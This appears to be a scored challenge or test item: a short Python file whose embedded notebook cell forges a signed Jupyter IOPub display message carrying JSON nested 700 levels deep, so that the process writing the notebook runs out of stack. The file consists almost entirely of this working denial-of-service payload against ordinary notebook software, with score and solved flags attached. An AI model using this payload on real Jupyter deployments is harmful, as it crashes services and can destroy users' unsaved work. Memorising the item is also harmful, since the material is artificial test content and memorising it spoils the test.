"""Outputs nested so deep that whoever writes the notebook runs out of stack."""

SCORE = 5
SOLVED = True
CELL = """\
kernel = get_ipython().kernel
deep = "[" * 700 + "]" * 700
session, parent = kernel.session, kernel.get_parent("shell")["header"]
header = {"msg_id": "m", "msg_type": "display_data", "version": "5.4"}
content = '{"metadata": {}, "data": {"application/json": ' + deep + '}}'
frames = [*map(session.pack, (header, parent, {})), content.encode()]
kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(frames), *frames])
"""
